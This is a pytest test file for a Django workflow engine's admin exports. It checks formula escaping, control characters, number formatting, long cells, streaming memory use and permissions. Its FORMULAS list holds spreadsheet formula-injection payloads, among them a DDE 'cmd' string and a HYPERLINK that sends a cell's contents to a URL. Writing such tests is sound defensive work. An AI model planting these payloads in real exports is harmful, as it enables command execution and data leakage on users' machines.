"""What exported files hold: text is text in them, whatever somebody wrote, and numbers are those of the database."""

import csv
import io
import json
import tracemalloc
from typing import Any

import pytest
from django.test import override_settings
from openpyxl import load_workbook

from django_wfe.admin.exports import files
from django_wfe.engine.lifecycle import run_workflow
from django_wfe.models import Job, StepRun
from tests.support.doors.console import record, sign_in, sign_in_superuser
from tests.workflows import Failing, Linear

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

JOBS = "/admin/django_wfe/job/export/"
RUNS = "/admin/django_wfe/steprun/export/"
FORMATS = {"csv": "0", "xlsx": "1", "tsv": "2", "json": "3"}
WITH_DATA = "1"

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "#N/A",
    "a;=1+1",
]


def read_export(file_format: str, address: str = JOBS, resource: str = "") -> Any:
    """Export, and return the file as the program that opens it would read it: rows of values."""
    data = {"format": FORMATS[file_format], **({"resource": resource} if resource else {})}
    response = sign_in_superuser().post(address, data)
    assert response.status_code == 200
    content = response.getvalue() if response.streaming else response.content
    assert response.headers["Content-Disposition"].endswith(f'.{file_format}"')
    if file_format == "json":
        return json.loads(content)
    if file_format == "xlsx":
        return load_workbook(io.BytesIO(content))
    return list(csv.reader(io.StringIO(content.decode()), delimiter="\t" if file_format == "tsv" else ","))


def run_with_key(key: str) -> int:
    return run_workflow(record(Linear), key=key)


@pytest.mark.parametrize("escapes", [True, False, None])
@pytest.mark.parametrize("key", FORMULAS)
def test_a_formula_as_a_key_is_text_in_every_sheet(key: str, *, escapes: bool | None) -> None:
    run_with_key(key)
    with override_settings(IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT=escapes):
        [header, row] = read_export("csv")
        sheet = read_export("xlsx").active
    cell = next(cell for cell in sheet[2] if sheet[1][cell.column - 1].value == "key")
    assert (cell.data_type, cell.value) == ("s", key)
    exported = row[header.index("key")]
    assert exported.replace("'", "") == key.replace("'", "")
    for part in exported.split(";"):
        assert not part.startswith(tuple("=+-@\t＝")), exported


def test_json_holds_a_key_as_it_is() -> None:
    for key in FORMULAS:
        run_with_key(key)
    assert [job["key"] for job in reversed(read_export("json"))] == FORMULAS


@pytest.mark.parametrize("file_format", ["csv", "tsv", "xlsx", "json"])
def test_control_characters_in_an_error_stop_no_export_and_are_seen(file_format: str) -> None:
    run_workflow(record(Failing))
    error = "\x1b[31mred\x1b[0m \x07 \x9b1m \ufffe \x7f"
    StepRun.objects.filter(state="FAILED").update(error=error, error_type="_x0041_")
    exported = read_export(file_format, RUNS, WITH_DATA)
    seen = "␛[31mred␛[0m ␇ \\x9b1m \\ufffe ␡"
    if file_format == "json":
        assert exported[0]["error"] == error
    elif file_format == "xlsx":
        values = [cell.value for cell in exported.active[2]]
        assert seen in values
        assert "_x005F_x0041_" in values or "_x0041_" in values
    else:
        assert seen in exported[1]


def test_numbers_are_those_that_machines_read_whatever_the_language_of_the_user() -> None:
    job_id = run_with_key("order 7")
    Job.objects.filter(pk=job_id).update(current_step_number=1_234_567)
    with override_settings(USE_THOUSAND_SEPARATOR=True, LANGUAGE_CODE="de"):
        [header, row] = read_export("csv")
        [job] = read_export("json")
        sheet = read_export("xlsx").active
    assert row[header.index("current_step_number")] == "1234567"
    assert job["current_step_number"] == 1_234_567
    assert 1_234_567 in [cell.value for cell in sheet[2]]


def test_a_cell_that_is_too_long_for_a_sheet_says_how_long_it_was() -> None:
    run_workflow(record(Linear))
    StepRun.objects.filter(number=1).update(result="x" * 40_000)
    values = [cell.value for row in read_export("xlsx", RUNS, WITH_DATA).active for cell in row]
    [long] = [value for value in values if isinstance(value, str) and len(value) > 1_000]
    assert len(long) == 32_767
    assert "40002 characters in all" in long
    assert any("x" * 40_000 in cell for row in read_export("csv", RUNS, WITH_DATA) for cell in row)


def test_more_rows_than_a_sheet_holds_go_on_in_another(monkeypatch: pytest.MonkeyPatch) -> None:
    jobs = {run_with_key(f"order {number}") for number in range(5)}
    monkeypatch.setattr(files, "ROWS_OF_A_SHEET", 3)
    sheets = read_export("xlsx").worksheets
    assert [sheet.max_row for sheet in sheets] == [3, 3, 2]
    assert {row[0].value for sheet in sheets for row in sheet.iter_rows(min_row=2)} == jobs


def test_the_data_of_a_step_run_is_the_json_that_the_database_has() -> None:
    run_workflow(record(Linear))
    result = {"b": [1.50, "żółć", None], "a": True}
    StepRun.objects.filter(number=1).update(result=result)
    header, *rows = read_export("csv", RUNS, WITH_DATA)
    [row] = [row for row in rows if row[header.index("number")] == "1"]
    assert json.loads(row[header.index("result")]) == result
    assert row[header.index("superseded")] == "0"
    assert row[header.index("external_data")] == ""


@pytest.mark.parametrize("file_format", ["csv", "json", "xlsx"])
def test_a_large_export_takes_no_memory_for_each_row(file_format: str) -> None:
    run_workflow(record(Linear))
    first = StepRun.objects.order_by("pk").first()
    assert first is not None
    large = {"text": ["large " * 20_000]}  # 120 kB
    StepRun.objects.bulk_create(
        StepRun(job_id=first.job_id, number=number, step="shop.Large", state="FINISHED", result=large)
        for number in range(10, 410)
    )
    client = sign_in_superuser()
    client.post(RUNS, {"format": FORMATS[file_format], "resource": "0"})  # what is loaded once
    tracemalloc.start()
    response = client.post(RUNS, {"format": FORMATS[file_format], "resource": WITH_DATA})
    if file_format != "xlsx":  # which compresses, and cuts long cells
        assert int(response.headers["Content-Length"]) > 400 * 120_000
        assert response.streaming
    sent = sum(len(part) for part in response)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert sent == int(response.headers["Content-Length"])
    assert peak < 20 * 2**20


def test_who_may_export_nothing_gets_nothing(settings: Any) -> None:
    settings.IMPORT_EXPORT_EXPORT_PERMISSION_CODE = "export"
    assert sign_in("view_job").post(JOBS, {"format": "0"}).status_code == 403


def test_only_formats_that_the_project_allows_are_offered(settings: Any) -> None:
    from import_export.formats import base_formats

    settings.IMPORT_EXPORT_FORMATS = [base_formats.JSON]
    run_with_key("=1")
    response = sign_in_superuser().post(JOBS, {"format": "0"})
    assert [job["key"] for job in json.loads(response.content)] == ["=1"]
